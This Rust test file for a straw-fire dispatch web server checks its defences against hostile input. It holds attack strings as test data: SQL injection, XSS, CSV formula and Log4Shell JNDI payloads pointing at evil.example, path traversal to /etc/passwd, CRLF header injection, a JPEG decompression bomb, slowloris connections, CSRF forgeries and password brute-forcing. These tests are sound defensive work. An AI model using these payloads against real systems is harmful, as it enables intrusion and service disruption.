//! What somebody may try who means no good.

use super::{PASSWORD, Session, Web, ago, burn, cookie_of, run};
use crate::databases::sqlite;
use serde_json::json;
use strawfire::store::Store;

/// Texts that are code somewhere.
const NASTY: [&str; 7] = [
    "'; DROP TABLE events; --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\")",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00\u{202e}\u{0007}",
];

/// Notes of every step hold what was typed as a text: in the database, as JSON, CSV, KML and in the audit.
#[test]
fn a_text_is_a_text_wherever_it_goes() {
    for database in crate::databases::both() {
        let web = Web::start(database, "");
        run(async {
            let city = web.sign_in("city").await;
            web.send(&city, "POST", "/roster", Some(super::roster()), &[]).await;
            let store = Store::open(&web.database.url).await.expect("opens");
            for (n, nasty) in NASTY.into_iter().enumerate() {
                let id = burn(
                    &store,
                    &format!("n{n}"),
                    ago(60.0 + n as f64),
                    (101.8 + 0.05 * n as f64, 36.9),
                    "630223",
                    "互助",
                )
                .await;
                let at = |action: &str| format!("/events/{id}/{action}");
                let got = web.post(&city, &at("dispatch"), json!({ "post": "HZ-01", "note": nasty })).await;
                assert_eq!(got.status, 200, "{}", got.text());
                let report = json!({ "finding": "burning", "cause": "straw", "note": nasty });
                let got = web.post(&city, &at("report"), report).await;
                let kept: String = nasty.chars().filter(|c| !c.is_control() && *c != '\u{202e}').collect();
                assert_eq!(got.json()["event"]["properties"]["verification"]["note"], kept, "{}", got.text());
                // ids and codes are no place for it at all
                for body in [json!({ "post": nasty }), json!({ "post": "HZ-01", "unknown": 1 })] {
                    assert_eq!(web.post(&city, &at("dispatch"), body).await.status, 422);
                }
                let encoded: String = nasty.bytes().map(|byte| format!("%{byte:02X}")).collect();
                for path in [
                    format!("/events/{encoded}"),
                    format!("/collections/events/items/{encoded}"),
                    format!("/collections/{encoded}/items"),
                ] {
                    assert_eq!(web.get(&city, &path).await.status, 404, "{path}");
                }
                for name in ["county", "status", "class", "bbox", "datetime", "after", "limit"] {
                    let got = web.get(&city, &format!("/collections/events/items?{name}={encoded}")).await;
                    assert_eq!(got.status, 400, "{name}={nasty}: {}", got.text());
                    assert_eq!(got.header("content-type"), "application/problem+json");
                }
            }
            let csv = web.get(&city, "/collections/events/items?f=csv").await.text();
            assert!(csv.contains("'=HYPERLINK") && !csv.contains(",=HYPERLINK"), "{csv}");
            let kml = web.get(&city, "/collections/events/items?f=kml").await.text();
            assert!(!kml.contains("<script>") && kml.contains("&lt;script&gt;"), "{kml}");
            assert_eq!(web.get(&city, "/collections/events/items").await.json()["numberMatched"], NASTY.len());
            assert_eq!(store.verify_audit(None).await.expect("read").broken, None);
        });
    }
}

#[test]
fn who_guesses_passwords_waits_and_learns_nothing() {
    let web = Web::start(sqlite(), "");
    run(async {
        let sign_in = async |name: &str, password: &str, code: Option<String>| {
            web.post(&Session::default(), "/login", json!({ "name": name, "password": password, "code": code })).await
        };
        let unknown = sign_in("nobody-here", PASSWORD, None).await;
        let wrong = sign_in("leader", "wrong", None).await;
        assert_eq!((unknown.status, wrong.status, unknown.text()), (401, 401, wrong.text()), "the same answer");
        assert_eq!(sign_in("city", PASSWORD, None).await.status, 401, "a desk needs its code");
        assert_eq!(sign_in("city", PASSWORD, Some("000000".into())).await.status, 401);
        let code = web.code("huzhu");
        assert_eq!(sign_in("huzhu", PASSWORD, code.clone()).await.status, 204);
        assert_eq!(sign_in("huzhu", PASSWORD, code).await.status, 401, "a code is taken once");
        assert_eq!(sign_in("program-hz", PASSWORD, None).await.status, 401, "a program has a key and no password");
        for _ in 0..4 {
            assert_eq!(sign_in("leader", "wrong", None).await.status, 401);
        }
        let locked = sign_in("leader", PASSWORD, None).await;
        assert_eq!((locked.status, locked.header("retry-after").as_str()), (423, "60"), "{}", locked.text());
        let mut last = 0;
        for _ in 0..25 {
            last = sign_in("nobody-here", "x", None).await.status;
        }
        assert_eq!(last, 429, "one address may not try for ever");
        let long = sign_in("leader", &"x".repeat(100_000), None).await;
        assert!([413, 429].contains(&long.status), "{}", long.status);
    });
}

#[test]
fn sessions_are_new_secret_and_end() {
    let web = Web::start(sqlite(), "");
    run(async {
        let fixed = Session { cookie: "__Host-strawfire=known-to-the-attacker".into(), ..Session::default() };
        let got = web.post(&fixed, "/login", json!({ "name": "leader", "password": PASSWORD })).await;
        let set = got.header("set-cookie");
        assert!(!set.contains("known-to-the-attacker"), "{set}");
        for part in ["__Host-strawfire=", "; Path=/", "; Secure", "; HttpOnly", "; SameSite=Strict"] {
            assert!(set.contains(part), "{part} is not in {set}");
        }
        assert_eq!(web.get(&fixed, "/me").await.status, 401);
        let mut session = Session { cookie: cookie_of(&got), ..Session::default() };
        session.csrf = web.get(&session, "/me").await.json()["csrf"].as_str().expect("a token").to_string();
        assert_eq!(web.post(&session, "/logout", json!({})).await.status, 204);
        assert_eq!(web.get(&session, "/me").await.status, 401, "what was signed out is over");
        // one that is shut out is out at once
        let session = web.sign_in("weiyuan").await;
        let site = web.site.display().to_string();
        let disabled = crate::common::strawfire(&web.site, &["user", "disable", "weiyuan", "--site", &site]);
        assert!(disabled.status.success());
        assert_eq!(web.get(&session, "/me").await.status, 401);
        let again = json!({ "name": "weiyuan", "password": PASSWORD });
        assert_eq!(web.post(&Session::default(), "/login", again).await.status, 401);
        let store = Store::open(&web.database.url).await.expect("opens");
        let text = {
            let mut all = String::new();
            store
                .backup(|line| {
                    all += line;
                    Ok(())
                })
                .await
                .expect("written");
            all
        };
        let value = cookie_of(&got).split('=').nth(1).expect("a value").to_string();
        assert!(!text.contains(&value) && !text.contains(PASSWORD), "the store knows no secret that lets anybody in");
    });
}

#[test]
fn other_sites_change_nothing() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (event, _) = web.furnish().await;
        let desk = web.sign_in("huzhu").await;
        let path = format!("/events/{event}/triage");
        let body = || Some(json!({ "outcome": "confirm" }).to_string().into_bytes());
        let without = Session { csrf: String::new(), ..desk.clone() };
        let forged = Session { csrf: "0".repeat(32), ..desk.clone() };
        let other = web.sign_in("minhe").await;
        let replayed = Session { csrf: other.csrf.clone(), ..desk.clone() };
        for session in [&without, &forged, &replayed] {
            assert_eq!(web.send(session, "POST", &path, body(), &[]).await.status, 403);
        }
        for header in [
            ("origin", "https://evil.example"),
            ("origin", "null"),
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-site", "same-site"),
        ] {
            assert_eq!(web.send(&desk, "POST", &path, body(), &[header]).await.status, 403, "{header:?}");
        }
        let login = json!({ "name": "leader", "password": PASSWORD }).to_string().into_bytes();
        let got =
            web.send(&Session::default(), "POST", "/login", Some(login), &[("origin", "https://evil.example")]).await;
        assert_eq!(got.status, 403, "nor does another site sign anybody in");
        assert_eq!(web.send(&desk, "POST", &path, body(), &[("sec-fetch-site", "same-origin")]).await.status, 200);
        let cors = web.send(&desk, "GET", "/me", None, &[("origin", "https://evil.example")]).await;
        assert_eq!(cors.header("access-control-allow-origin"), "");
    });
}

#[test]
fn links_of_tasks_cannot_be_guessed_shared_or_used_again() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (huzhu, minhe) = web.furnish().await;
        let desk = web.sign_in("city").await;
        let link = web.dispatch(&desk, &huzhu, "HZ-01").await;
        let token = link.split('#').nth(1).expect("a token").to_string();
        for guess in ["", "0", &"0".repeat(32), &token[..31], &token.to_uppercase(), "' OR '1'='1' -- aaaaaaaaaaaaaaaa"]
        {
            let got = web.post(&Session::default(), "/task/open", json!({ "token": guess })).await;
            assert!(got.status == 404 || guess == token, "{guess}: {}", got.status);
        }
        let (got, phone) = web.open_link(&link).await;
        assert_eq!(got.status, 200);
        let (another, _) = web.open_link(&link).await;
        assert_eq!(another.status, 409, "it was sent on to somebody else: {}", another.text());
        let stolen = Session { cookie: String::new(), ..phone.clone() };
        assert_eq!(web.get(&stolen, "/task/state").await.status, 409, "the token alone is not the phone");
        assert_eq!(web.get(&phone, "/task/state").await.status, 200);
        for path in [format!("/events/{minhe}/acknowledge"), format!("/events/{minhe}/photos")] {
            let body = if path.ends_with("photos") {
                json!({ "id": "7b1e0c9a-5d0f-4b7e-9d53-0f6f5b7a9c13", "sha256": "0".repeat(64), "size": 9, "mime": "image/jpeg", "taken_at": ago(1.0) })
            } else {
                json!({})
            };
            let got =
                web.send(&phone, "POST", &path, Some(body.to_string().into_bytes()), &[("idempotency-key", "x")]).await;
            assert_eq!(got.status, 404, "{path}: {}", got.text());
        }
        assert_eq!(
            web.get(&phone, "/collections/events/items").await.status,
            403,
            "a link is for one task and no list"
        );
        // the first answer was lost on the way: the same phone asks again with the key that it made
        let link = web.post(&desk, &format!("/events/{huzhu}/link"), json!({})).await.json()["link"]
            .as_str()
            .expect("a link")
            .to_string();
        assert_eq!(web.get(&phone, "/task/state").await.status, 410, "the old one is over");
        let token = link.split('#').nth(1).expect("a token");
        let key = "0a0a0a0a-1111-4222-8333-0b0b0b0b0b0b";
        for _ in 0..2 {
            let body = Some(json!({ "token": token }).to_string().into_bytes());
            let got = web.send(&Session::default(), "POST", "/task/open", body, &[("idempotency-key", key)]).await;
            assert_eq!(got.status, 200, "{}", got.text());
        }
        let all = web.get(&desk, &format!("/events/{huzhu}")).await.json();
        let task = all["tasks"][1]["id"].as_str().expect("a task").to_string();
        assert!(!all.to_string().contains(token), "the desk does not see the token again");
        let minhe_desk = web.sign_in("minhe").await;
        assert_eq!(web.post(&minhe_desk, &format!("/tasks/{task}/revoke"), json!({})).await.status, 404);
        assert_eq!(web.post(&desk, &format!("/tasks/{task}/revoke"), json!({})).await.status, 204);
        let body = Some(json!({ "token": token }).to_string().into_bytes());
        let got = web.send(&Session::default(), "POST", "/task/open", body, &[("idempotency-key", key)]).await;
        assert_eq!(got.status, 410, "{}", got.text());
    });
}

#[test]
fn photos_are_pictures_of_a_sane_size_and_lie_where_they_should() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (event, _) = web.furnish().await;
        let desk = web.sign_in("city").await;
        let photos = format!("/events/{event}/photos");
        let good = json!({
            "id": "7b1e0c9a-5d0f-4b7e-9d53-0f6f5b7a9c14", "sha256": "0".repeat(64), "size": 10, "mime": "image/jpeg", "taken_at": ago(1.0),
        });
        let with = |name: &str, value: serde_json::Value| {
            let mut body = good.clone();
            body[name] = value;
            body
        };
        for (body, expected) in [
            (with("id", json!("../../../../etc/passwd")), 422),
            (with("id", json!("..%2f..%2fx")), 422),
            (with("sha256", json!("zz")), 422),
            (with("size", json!(0)), 413),
            (with("size", json!(5_000_000_000_i64)), 413),
            (with("size", json!(-1)), 413),
            (with("mime", json!("text/html")), 415),
            (with("mime", json!("image/svg+xml")), 415),
            (with("lon", json!(1e9)), 201),
            (with("surprise", json!(1)), 422),
        ] {
            let got = web.post(&desk, &photos, body.clone()).await;
            // a place needs both numbers, and one that is none is refused with both
            assert_eq!(got.status, expected, "{body}: {}", got.text());
        }
        let id = good["id"].as_str().expect("an id");
        let put = async |path: String, body: Vec<u8>| web.send(&desk, "PUT", &path, Some(body), &[]).await;
        let bomb = bomb();
        for (body, expected) in [
            (Vec::new(), 422),
            (b"<svg onload=alert(1)>".to_vec(), 422),
            (b"\x89PNG\r\n\x1a\nnot one".to_vec(), 422),
            (bomb, 422),
            (vec![0xFF; 600 << 10], 413),
        ] {
            let got = put(format!("{photos}/{id}/small"), body).await;
            assert_eq!(got.status, expected, "{}", got.text());
        }
        for path in
            [format!("{photos}/{id}/original?offset=-1"), format!("{photos}/{id}/original?offset=9000000000000000000")]
        {
            assert_eq!(put(path, b"x".to_vec()).await.status, 409);
        }
        assert_eq!(
            put(format!("{photos}/{id}/original?offset=0"), vec![0; 11]).await.status,
            409,
            "more than was said"
        );
        assert_eq!(put(format!("{photos}/{id}/original?offset=0"), vec![0; 2 << 20]).await.status, 413);
        assert_eq!(web.get(&desk, &format!("{photos}/{id}/small")).await.status, 404);
        for path in [
            "/assets/..%2f..%2fCargo.toml",
            "/assets/%2e%2e/mod.rs",
            "/assets//etc/passwd",
            "/photos/../../../etc/passwd",
            "/assets/%00",
        ] {
            let got = web.get(&desk, path).await;
            assert!(got.status == 404 || got.status == 400, "{path}: {}", got.status);
        }
    });
}

/// A JPEG whose head says that it has 65,500 pixels a side.
fn bomb() -> Vec<u8> {
    let mut bytes = Vec::new();
    let encoder = image::codecs::jpeg::JpegEncoder::new(&mut bytes);
    image::DynamicImage::new_rgb8(16, 16).write_with_encoder(encoder).expect("encoded");
    let head = bytes.windows(2).position(|pair| pair == [0xFF, 0xC0]).expect("a frame");
    bytes[head + 5..head + 9].copy_from_slice(&[0xFF, 0xDC, 0xFF, 0xDC]);
    bytes
}

#[test]
fn requests_that_are_too_large_or_none_are_answered_and_hold_up_nobody() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (event, _) = web.furnish().await;
        let desk = web.sign_in("city").await;
        let large = json!({ "outcome": "confirm", "note": "x".repeat(1 << 20) });
        assert_eq!(web.post(&desk, &format!("/events/{event}/triage"), large).await.status, 413);
        let long = json!({ "outcome": "confirm", "note": "字".repeat(2001) });
        assert_eq!(web.post(&desk, &format!("/events/{event}/triage"), long).await.status, 422);
        for body in ["", "{", "[]", "null", "\u{0}", "{\"outcome\":\"confirm\",\"outcome\":\"exclude\"}"] {
            let got = web.send(&desk, "POST", &format!("/events/{event}/triage"), Some(body.into()), &[]).await;
            assert_eq!(got.status, 422, "{body:?}: {}", got.text());
        }
        // a bomb in a spreadsheet's cloth, and a document that is none
        for body in [vec![b'P'; 5 << 20], b"PK\x03\x04broken".to_vec(), Vec::new()] {
            let got = web.send(&desk, "POST", "/roster", Some(body), &[]).await;
            assert!([413, 422].contains(&got.status), "{}", got.status);
        }
        assert_eq!(web.get(&desk, "/healthz").await.status, 200);
        // a client that sends its head byte by byte for ever takes a connection, and nobody else's time
        use tokio::io::AsyncWriteExt as _;
        let address = web.server.address.trim_start_matches("http://").to_string();
        let mut slow = Vec::new();
        for _ in 0..50 {
            let mut stream = tokio::net::TcpStream::connect(&address).await.expect("connects");
            stream.write_all(b"GET / HTTP/1.1\r\nX").await.expect("sent");
            slow.push(stream);
        }
        let began = std::time::Instant::now();
        assert_eq!(web.get(&desk, "/me").await.status, 200);
        assert!(began.elapsed().as_secs() < 5);
    });
}

/// Every page and answer forbids what it does not need.
#[test]
fn headers_forbid_what_is_not_needed() {
    let web = Web::start(sqlite(), "tiles_url = 'https://t0.tiles.example.cn/{z}/{x}/{y}.png'");
    run(async {
        let session = web.sign_in("leader").await;
        for path in ["/", "/login", "/wall", "/task", "/api", "/me", "/nowhere"] {
            let got = web.send(&session, "GET", path, None, &[("accept", "text/html")]).await;
            let policy = got.header("content-security-policy");
            for part in
                ["default-src 'self'", "script-src 'self';", "frame-ancestors 'none'", "https://t0.tiles.example.cn;"]
            {
                assert!(policy.contains(part), "{path}: no {part} in {policy}");
            }
            assert!(!policy.contains("unsafe"), "{policy}");
            assert_eq!(
                (got.header("x-content-type-options").as_str(), got.header("x-frame-options").as_str()),
                ("nosniff", "DENY")
            );
            assert_eq!(got.header("referrer-policy"), "no-referrer");
        }
        assert_eq!(web.get(&session, "/me").await.header("cache-control"), "no-store");
        for injected in ["/login?next=%0d%0aSet-Cookie:%20x=1", "/%0d%0aX-Evil:1"] {
            let got = web.get(&session, injected).await;
            assert!(got.headers.get("x-evil").is_none() && !got.header("set-cookie").contains("x=1"), "{injected}");
        }
    });
}

/// Nothing that a person sets through the web makes the server call anybody: sinks are those of site.toml alone.
#[test]
fn no_address_that_is_sent_is_ever_called() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (event, _) = web.furnish().await;
        let desk = web.sign_in("city").await;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let url = format!("http://{}/", listener.local_addr().expect("bound"));
        let paths: Vec<String> =
            strawfire::web::ROUTES.iter().map(|route| route.path.replace("{id}", &event)).collect();
        for path in
            paths.iter().filter(|path| !path.contains('{') && path.as_str() != "/live" && path.as_str() != "/logout")
        {
            for body in
                [json!({ "url": url, "webhook": url, "note": url, "post": url, "token": url }), json!({ "note": url })]
            {
                web.post(&desk, path, body).await;
                web.get(&desk, &format!("{path}?url={url}")).await;
            }
        }
        let called = tokio::time::timeout(std::time::Duration::from_millis(500), listener.accept()).await;
        assert!(called.is_err(), "somebody was called");
    });
}

/// What a second trial found, each once: parallel guesses, another post's case, a spreadsheet with a cell at the end of the world, a key
/// that is sent again, evidence that is written over, a desk that is shut out while it listens.
#[test]
fn what_was_found_is_mended() {
    let web = Web::start(sqlite(), "");
    run(async {
        let (huzhu, minhe) = web.furnish().await;
        // all who are needed sign in before the guesses use up what an address may try
        let city = web.sign_in("city").await;
        let (post, desk) = (web.sign_in("post-hz").await, web.sign_in("huzhu").await);
        // eighteen guesses at once count as eighteen
        let guess =
            async || web.post(&Session::default(), "/login", json!({ "name": "leader", "password": "wrong" })).await;
        futures_util::future::join_all((0..10).map(|_| guess())).await;
        let locked = web.post(&Session::default(), "/login", json!({ "name": "leader", "password": PASSWORD })).await;
        assert_eq!(locked.status, 423, "{}", locked.text());
        for _ in 0..5 {
            web.post(&Session::default(), "/login", json!({ "name": "nobody-at-all", "password": "wrong" })).await;
        }
        let stranger =
            web.post(&Session::default(), "/login", json!({ "name": "nobody-at-all", "password": "x" })).await;
        assert_eq!(stranger.status, 423, "a name that nobody has waits as others do");
        let nul = web.post(&Session::default(), "/login", json!({ "name": "a\u{0}b", "password": "x" })).await;
        assert_eq!(nul.status, 422, "{}", nul.text());
        // the same key again makes no other link, and another body under it is refused
        let at = |action: &str| format!("/events/{huzhu}/{action}");
        let dispatch = async |post: &str, note: &str| {
            let body = json!({ "post": post, "note": note }).to_string().into_bytes();
            web.send(&city, "POST", &at("dispatch"), Some(body), &[("idempotency-key", "d1")]).await
        };
        let first = dispatch("HZ-01", "").await;
        let link = first.json()["link"].as_str().expect("a link").to_string();
        let (_, phone) = web.open_link(&link).await;
        let again = dispatch("HZ-01", "").await;
        assert_eq!((again.status, again.json()["link"].is_null()), (200, true), "{}", again.text());
        assert_eq!(dispatch("MH-01", "").await.status, 422);
        assert_eq!(web.get(&phone, "/task/state").await.status, 200, "the link that was made lives");
        // of two desks the second one is told
        let late = json!({ "post": "HZ-01" }).to_string().into_bytes();
        let got = web.send(&city, "POST", &at("dispatch"), Some(late), &[("x-status-seen", "triage")]).await;
        assert_eq!((got.status, got.json()["status_now"].as_str()), (409, Some("dispatched")), "{}", got.text());
        // a post that gave it back only looks
        let back = web.post(&post, &at("return"), json!({ "reason": "not_our_area", "note": "不是" })).await;
        assert_eq!(back.status, 200, "{}", back.text());
        web.dispatch(&city, &huzhu, "MH-01").await;
        let acts = web.post(&post, &at("acknowledge"), json!({})).await;
        assert_eq!(acts.status, 403, "{}", acts.text());
        // a desk makes no link of another county's post, though it sees the event
        assert_eq!(web.post(&desk, &at("link"), json!({})).await.status, 422);
        // evidence is written once, and by who registered it
        let id = "7b1e0c9a-5d0f-4b7e-9d53-0f6f5b7a9c15";
        let body = json!({ "id": id, "sha256": "0".repeat(64), "size": 10, "mime": "image/jpeg", "taken_at": "2099-01-01T00:00:00Z" });
        let registered = web.post(&desk, &at("photos"), body).await;
        assert_eq!(registered.status, 201, "{}", registered.text());
        assert!(registered.json()["taken_at"].as_str().is_some_and(|at| at < "2090"), "no photo is of a time to come");
        let small = format!("{}/{id}/small", at("photos"));
        let put = async |session: &Session, side: u32| web.send(session, "PUT", &small, Some(jpeg(side)), &[]).await;
        assert_eq!(put(&city, 30).await.status, 403);
        assert_eq!((put(&desk, 20).await.status, put(&desk, 40).await.status), (200, 200));
        let kept = web.get(&city, &small).await.body;
        assert_eq!(image::load_from_memory(&kept).expect("a picture").width(), 20, "the first one stays");
        // a cell at the end of the cloth, and a code that another county has
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "岗位代码").expect("written");
        sheet.write_string(1_048_575, 16_383, "x").expect("written");
        let far = book.save_to_buffer().expect("a book");
        assert!(far.len() < 20_000);
        assert_eq!(web.send(&city, "POST", "/roster", Some(far), &[]).await.status, 422);
        assert_eq!(web.get(&city, "/healthz").await.status, 200);
        // words for people, whoever refuses
        let words = web.send(&city, "PUT", &format!("{}/{id}/original", at("photos")), Some(b"x".to_vec()), &[]).await;
        assert_eq!((words.status, words.header("content-type").as_str()), (400, "application/problem+json"));
        // a proxy may change the host: what people reach it by is what counts
        let store = Store::open(&web.database.url).await.expect("opens");
        let request = web.client.get(web.url("/live")).header("cookie", &desk.cookie);
        let mut stream = request.send().await.expect("a stream");
        let site = web.site.display().to_string();
        assert!(crate::common::strawfire(&web.site, &["user", "disable", "huzhu", "--site", &site]).status.success());
        tokio::time::sleep(std::time::Duration::from_secs(12)).await;
        let secret = burn(&store, "after", ago(1.0), (102.1, 36.95), "630223", "互助土族自治县").await;
        let mut heard = String::new();
        let _ = tokio::time::timeout(std::time::Duration::from_secs(15), async {
            while let Ok(Some(part)) = stream.chunk().await {
                heard += &String::from_utf8_lossy(&part);
            }
        })
        .await;
        assert!(!heard.contains(&secret), "who is shut out hears no more: {heard}");
        let _ = minhe;
    });
}

fn jpeg(side: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let encoder = image::codecs::jpeg::JpegEncoder::new(&mut bytes);
    image::DynamicImage::new_rgb8(side, side).write_with_encoder(encoder).expect("encoded");
    bytes
}

/// One of the databases takes no NUL: neither in an address nor in a text, and never as a fault of the server.
#[test]
fn a_nul_is_no_text() {
    for database in crate::databases::both() {
        let web = Web::start(database, "");
        run(async {
            let (huzhu, _) = web.furnish().await;
            let city = web.sign_in("city").await;
            for path in [
                "/events/%00",
                "/collections/events/items/a%00",
                "/collections/fires/items/%00",
                "/collections/coverage/items/%00~630223",
            ] {
                assert_eq!(web.get(&city, path).await.status, 404, "{path}");
            }
            let nul = "a\u{0}b";
            for (path, body) in [
                (format!("/events/{huzhu}/dispatch"), json!({ "post": nul })),
                (format!("/events/{huzhu}/report"), json!({ "finding": "no_trace", "photos": [nul] })),
                (format!("/events/{huzhu}/triage"), json!({ "outcome": "confirm", "note": nul })),
                (format!("/events/{huzhu}/link"), json!({ "note": nul })),
                ("/task/open".to_string(), json!({ "token": nul })),
                ("/login".to_string(), json!({ "name": nul, "password": nul })),
            ] {
                let got = web.post(&city, &path, body).await;
                assert_eq!(got.status, 422, "{path}: {}", got.text());
            }
            assert_eq!(web.post(&city, "/tasks/%00/revoke", json!({})).await.status, 404);
        });
    }
}
